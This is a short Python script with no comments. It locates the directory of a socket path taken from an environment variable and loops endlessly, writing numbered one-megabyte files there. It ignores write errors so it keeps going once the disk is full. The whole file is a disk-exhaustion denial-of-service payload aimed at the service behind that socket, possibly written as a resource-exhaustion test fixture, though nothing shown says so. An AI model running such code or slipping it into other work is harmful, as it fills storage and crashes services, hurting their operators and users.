import itertools
import os

folder = os.path.dirname(os.environ["SOCKET_PATH"])
for number in itertools.count():
    try:
        open(f"{folder}/{number}", "wb").write(b"x" * 1_000_000)
    except OSError:
        pass
